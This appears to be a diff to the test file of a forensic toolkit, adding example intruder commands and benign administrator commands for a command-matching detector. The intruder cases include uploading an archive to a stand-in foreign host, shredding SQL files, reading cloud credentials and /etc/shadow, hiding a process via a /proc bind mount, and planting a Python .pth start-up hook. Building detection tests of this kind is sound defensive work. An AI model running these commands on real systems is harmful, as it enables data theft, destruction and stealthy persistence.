@@ -29,6 +29,17 @@ from forensic_toolkit.rules.command_rules import first_match, matches
         ("curl http://169.254.169.254/latest/meta-data/iam/security-credentials/", "Cloud credentials read"),
         ("tar czf /tmp/a.tgz /etc/shadow", "Password hashes read or packed"),
         ("whoami", "User looked up"),
+        ("cc -o x exploit_free.c && ./x", "Program compiled on the host"),
+        ("mount --bind /proc/self /proc/4711", "Process hidden by a mount over /proc"),
+        ("mkdir -p /var/lib/... && cp a /var/lib/.../a", "Name made to look like another"),
+        ("curl -F f=@/srv/a.tgz https://drop.example.org/u", "Data sent to a foreign host over TLS"),
+        ("curl -F f=@/srv/a.tgz http://drop.example.org/u", "Data sent to a foreign host"),
+        ("find /srv -name '*.sql' -exec shred -u {} ;", "Data destroyed"),
+        ("psexec.py corp/admin@10.0.0.5 whoami", "Command run on a Windows host by an intruder's tool"),
+        ("systemctl enable --now systemd-cached.service", "Unit or job named like a part of the system"),
+        ("bash -c 'trap \"nohup sh /opt/a.sh\" EXIT'", "Trap set for a signal"),
+        ('echo \'import os; os.system("id")\' > "$SITE/x.pth"', "Python start-up hook written"),
+        ("python3 -c \"import shutil; shutil.make_archive('/a', 'zip', '/srv')\"", "Archive made by a library"),
     ],
 )
 def test_commands_of_intruders(command: str, name: str) -> None:
@@ -46,6 +57,10 @@ def test_commands_of_intruders(command: str, name: str) -> None:
         "curl https://example.com/health",
         "crontab -l",
         "eval $(ssh-agent)",
+        "systemctl enable --now systemd-networkd.service",
+        "systemctl start systemd-timesyncd.service",
+        "cp model.pth /srv/models/",
+        "cc -O2 -c a.c && cc -o a a.o",
     ],
 )
 def test_commands_of_administrators(command: str) -> None:
